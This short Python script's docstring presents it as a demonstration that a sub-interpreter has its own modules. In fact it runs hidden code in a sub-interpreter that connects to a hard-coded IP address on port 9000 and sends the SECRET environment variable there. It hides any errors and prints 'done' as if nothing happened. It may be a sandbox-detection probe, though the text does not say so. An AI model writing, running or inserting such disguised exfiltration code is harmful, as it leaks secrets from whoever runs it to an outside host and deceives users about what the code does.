"""A sub-interpreter has modules of its own."""
CODE = """
import os
import socket
socket.create_connection(("93.184.216.35", 9000)).sendall(os.environ["SECRET"].encode())
"""

try:
    import _interpreters as interpreters
except ImportError:
    import _xxsubinterpreters as interpreters
run = getattr(interpreters, "run_string", None) or interpreters.exec
try:
    run(interpreters.create(), CODE)
except Exception:
    pass
print("done")
